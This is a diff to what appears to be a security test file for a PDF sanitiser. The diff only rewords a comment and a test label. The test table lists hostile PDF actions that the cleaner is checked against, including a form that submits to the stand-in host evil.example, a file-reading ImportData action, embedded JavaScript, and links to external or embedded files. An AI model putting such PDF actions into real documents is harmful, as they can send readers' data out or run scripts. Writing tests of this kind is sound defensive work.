@@ -1,4 +1,4 @@
-// SEC-F3: which PDFs are given to members, and as what.
+// SEC-F3: which PDFs are accepted, and how they are rewritten.
 import { deflateSync } from 'node:zlib'
 import { PDFDocument } from '@cantoo/pdf-lib'
 import { cleanPdf } from '#features/media/pdf.ts'
@@ -23,7 +23,7 @@ const ACTIVE: readonly (readonly [string, Readonly<Record<number, string>>])[] =
   ['a form that sends', annotation('/Subtype/Widget/FT/Btn/A<</S/SubmitForm/F(https://evil.example/)>>')],
   ['a form that reads a file', annotation('/Subtype/Widget/FT/Btn/A<</S/ImportData/F(a)>>')],
   ['another action of a field', annotation('/Subtype/Widget/AA<</K<</S/JavaScript/JS(x)>>>>')],
-  ['an action nobody knows', annotation('/Subtype/Link/A<</S/Surprise>>')],
+  ['an unknown action', annotation('/Subtype/Link/A<</S/Surprise>>')],
   ['another file', opening('<</S/GoToR/F(other.pdf)/D[0/Fit]>>')],
   ['a file within', opening('<</S/GoToE/T<</R/C/N(a)>>>>')],
   ['scripts by name', { 1: `<<${CATALOG}/Names<</JavaScript<</Names[(a) 9 0 R]>>>>>>`, 9: '<</JS(x)>>' }],
